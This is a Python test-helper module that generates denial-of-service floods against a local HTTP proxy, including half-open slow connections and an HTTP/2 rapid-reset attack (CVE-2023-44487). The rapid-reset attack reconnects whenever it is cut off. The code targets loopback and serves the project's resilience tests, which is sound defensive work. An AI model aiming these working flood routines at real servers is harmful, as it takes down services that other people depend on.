"""The flood attacks, as an agent would make them: raw sockets and the h2 library, against
the explicit proxy on loopback. Used by tests/test_floods.py."""

from __future__ import annotations

import select
import socket
import ssl
import time
from pathlib import Path

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions


def half_open(port: int, data: bytes, source: str = "127.0.0.1") -> socket.socket:
    """A connection that sent `data` (half a request line, say) and then nothing."""
    s = socket.create_connection(("127.0.0.1", port), timeout=10, source_address=(source, 0))
    if data:
        s.sendall(data)
    return s


def closed_by_peer(s: socket.socket, within: float) -> bool:
    """True once the proxy has closed `s` (EOF or reset), within `within` seconds."""
    deadline = time.monotonic() + within
    try:
        while (left := deadline - time.monotonic()) > 0:
            s.settimeout(left)
            if not s.recv(65536):
                return True
    except (ConnectionResetError, BrokenPipeError):
        return True
    except TimeoutError:
        return False
    return False


def http1_get(s: socket.socket, url: str, host: str) -> bytes:
    """One keep-alive request through the explicit proxy; the whole response (Content-Length)."""
    s.sendall(f"GET {url} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    s.settimeout(10)
    data = b""
    while b"\r\n\r\n" not in data:
        data += s.recv(65536) or b"<EOF>"
        if data.endswith(b"<EOF>"):
            return data
    head, _, body = data.partition(b"\r\n\r\n")
    length = next(
        int(line.split(b":", 1)[1])
        for line in head.lower().split(b"\r\n")
        if line.startswith(b"content-length:")
    )
    while len(body) < length:
        body += s.recv(65536)
    return head + b"\r\n\r\n" + body


class H2Tunnel:
    """An HTTP/2 connection to `host` through a CONNECT tunnel, trusting agentlog's CA."""

    def __init__(self, port: int, ca: Path, host: str) -> None:
        self.host = host
        raw = socket.create_connection(("127.0.0.1", port), timeout=10)
        raw.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
        reply = b""
        while b"\r\n\r\n" not in reply:
            reply += raw.recv(4096) or b"<EOF>\r\n\r\n"
        assert reply.startswith(b"HTTP/1.1 200"), reply
        context = ssl.create_default_context(cafile=str(ca))
        context.set_alpn_protocols(["h2"])
        self.sock = context.wrap_socket(raw, server_hostname=host)
        assert self.sock.selected_alpn_protocol() == "h2"
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.conn = h2.connection.H2Connection(config)
        self.conn.initiate_connection()
        self.flush()
        self.terminated = False

    def headers(self, path: str, end_stream: bool = True, method: str = "GET") -> int:
        stream_id = self.conn.get_next_available_stream_id()
        self.conn.send_headers(
            stream_id,
            [(":method", method), (":scheme", "https"), (":authority", self.host), (":path", path)],
            end_stream=end_stream,
        )
        return stream_id

    def reset(self, stream_id: int) -> None:
        self.conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)

    def flush(self) -> None:
        self.sock.sendall(self.conn.data_to_send())

    def poll(self, timeout: float = 0.0) -> list[h2.events.Event]:
        """The events that arrived (waiting up to `timeout` for the first); EOF or GOAWAY
        sets `terminated`."""
        found: list[h2.events.Event] = []
        ready = self.sock.pending() or select.select([self.sock], [], [], timeout)[0]
        while ready:
            try:
                data = self.sock.recv(65536)
            except (ssl.SSLError, OSError):
                data = b""
            if not data:
                self.terminated = True
                break
            found += self.conn.receive_data(data)
            self.flush()
            ready = self.sock.pending() or select.select([self.sock], [], [], 0)[0]
        if any(isinstance(e, h2.events.ConnectionTerminated) for e in found):
            self.terminated = True
        return found

    def wait_for(self, kind: type, stream_id: int, within: float = 10.0) -> h2.events.Event:
        deadline = time.monotonic() + within
        while time.monotonic() < deadline and not self.terminated:
            for event in self.poll(0.1):
                if isinstance(event, kind) and getattr(event, "stream_id", None) == stream_id:
                    return event
        raise AssertionError(f"no {kind.__name__} for stream {stream_id}")

    def get(self, path: str) -> tuple[int, bytes]:
        """A whole request: status and body."""
        stream_id = self.headers(path)
        self.flush()
        status, body = 0, b""
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            for event in self.poll(0.1):
                if getattr(event, "stream_id", None) != stream_id:
                    continue
                if isinstance(event, h2.events.ResponseReceived):
                    status = int(dict(event.headers)[":status"])
                elif isinstance(event, h2.events.DataReceived):
                    body += event.data
                    self.conn.acknowledge_received_data(len(event.data), stream_id)
                elif isinstance(event, h2.events.StreamEnded):
                    return status, body
        raise AssertionError(f"{path}: no complete response")

    def close(self) -> None:
        self.sock.close()


def rapid_reset(port: int, ca: Path, host: str, path: str, streams: int) -> dict[str, int]:
    """Open `streams` streams and reset each at once (CVE-2023-44487), 100 to a write,
    reconnecting whenever the proxy closes the connection. Returns what was sent."""
    tunnel = H2Tunnel(port, ca, host)
    sent = connections = 0
    while sent < streams:
        try:
            for _ in range(min(100, streams - sent)):
                tunnel.reset(tunnel.headers(path))
                sent += 1
            tunnel.flush()
            tunnel.poll()
        except (OSError, h2.exceptions.ProtocolError):
            tunnel.terminated = True
        if tunnel.terminated:
            tunnel.close()
            tunnel = H2Tunnel(port, ca, host)
            connections += 1
    tunnel.poll(0.5)  # give the proxy the last of them before hanging up
    tunnel.close()
    return {"streams": sent, "connections": connections + 1}
